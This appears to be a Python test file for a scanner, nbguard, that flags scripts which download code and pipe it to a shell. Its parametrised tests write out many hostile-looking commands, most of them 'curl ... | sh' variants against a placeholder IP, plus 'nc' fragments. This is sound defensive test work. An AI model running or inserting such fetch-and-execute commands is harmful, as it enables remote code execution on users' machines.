"""Scripts: what reaches an interpreter is told, whatever the quoting; what only stands there is not."""

from __future__ import annotations

import shutil
import time
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import nbguard
from nbguard.formats.shell_text import pipelines
from nbguard.scanners import scripts

GET = "curl -s https://203.0.113.7/i"


def keys(source: str) -> set[str]:
    return {act.key for act in scripts.acts(source)}


@pytest.mark.parametrize(
    "line",
    [
        f"{GET} | sh", f"{GET}|bash", f"{GET} | sudo -E bash -", f"{GET} | tee /tmp/x | sh", f"{GET} |& zsh",
        f"{GET} | /usr/bin/env python3", f"if true; then {GET} | sh; fi", f"true && {GET} | sh", f"X=1 {GET} | Y=2 sh",
        f'sh -c "$({GET})"', f"sh <({GET})", f". <({GET})", f"python3 -c \"$({GET})\"", f"eval $({GET})",
        f"for i in 1; do {GET} | sh; done", f"{GET} | xargs -0 sh -c", f"( {GET} ) | sh",
    ],
)  # fmt: skip
def test_a_download_that_is_run_is_told(line: str) -> None:
    assert "runs-download" in keys(f"#!/bin/sh\n{line}\n")


@pytest.mark.parametrize(
    "line",
    [
        f"{GET} -o model.bin", f"{GET} | tar xz", f"{GET} | jq .name", f"{GET} > setup.sh", f"# {GET} | sh",
        f"echo '{GET} | sh'", f"{GET} | python3 -m json.tool", f"{GET} | python3 convert.py", "bash setup.sh",
        "echo aGk= | base64 -d > x", "rm -rf build/ dist/ \"$HOME/.cache/model\"", "rm -rf ./weights", "chmod +x x",
        "chmod 755 run.sh", "cat ~/.ssh/config", 'export HF_TOKEN=x; curl -H "Authorization: $HF_TOKEN" https://huggingface.co/api',
        "cat <<EOF\ncurl https://203.0.113.7 | sh\nEOF", "git clone https://huggingface.co/org/name && cd name",
    ],
)  # fmt: skip
def test_what_set_up_scripts_do_is_not(line: str) -> None:
    assert keys(f"#!/bin/sh\n{line}\n") == set()


@given(st.text(alphabet="ab |;&$()<>`'\"\\\n#{}=-", max_size=300))
@settings(max_examples=300, deadline=None)
def test_any_text_comes_apart(source: str) -> None:
    list(pipelines(source))
    list(scripts.acts(source))


@pytest.mark.parametrize("piece", ["$(", "`", "curl ", "(", "'", "a|", "nc -", "\\\n", "base64 -d|"])
def test_long_lines_come_apart_in_bounded_time(piece: str) -> None:
    begun = time.process_time()
    list(scripts.acts(piece * (200_000 // len(piece))))
    assert time.process_time() - begun < 20


def test_a_script_beside_a_model_is_inert_until_it_does_harm(tmp_path: Path) -> None:
    import numpy as np
    from safetensors.numpy import save_file

    save_file({"a": np.zeros(3)}, str(tmp_path / "model.safetensors"))
    (tmp_path / "setup.sh").write_text("#!/bin/sh\npip install torch\n")
    (tmp_path / "requirements.txt").write_text("torch\n--pre\n")
    report = nbguard.scan(str(tmp_path))
    assert report.verdict.word == "safe"
    assert {f.path for f in report.files if f.inert} == {"setup.sh", "requirements.txt"}
    (tmp_path / "setup.sh").write_text(f"#!/bin/sh\n{GET} | sh\n")
    assert nbguard.scan(str(tmp_path)).verdict.word == "danger"


@pytest.mark.parametrize("packed", ["zip", "tar"])
def test_in_an_archive_a_script_weighs_as_in_a_folder(packed: str, tmp_path: Path) -> None:
    folder = tmp_path / "m"
    folder.mkdir()
    (folder / "setup.sh").write_text("#!/bin/sh\npip install torch\n")
    (folder / "notes.txt").write_text("hello\n")
    shutil.make_archive(str(tmp_path / "m"), packed, folder)
    assert nbguard.scan(str(tmp_path / f"m.{packed}")).verdict.word == "safe"
    (folder / "setup.sh").write_text(f"#!/bin/sh\n{GET} | sh\n")
    shutil.make_archive(str(tmp_path / "m"), packed, folder)
    assert nbguard.scan(str(tmp_path / f"m.{packed}")).verdict.word == "danger"
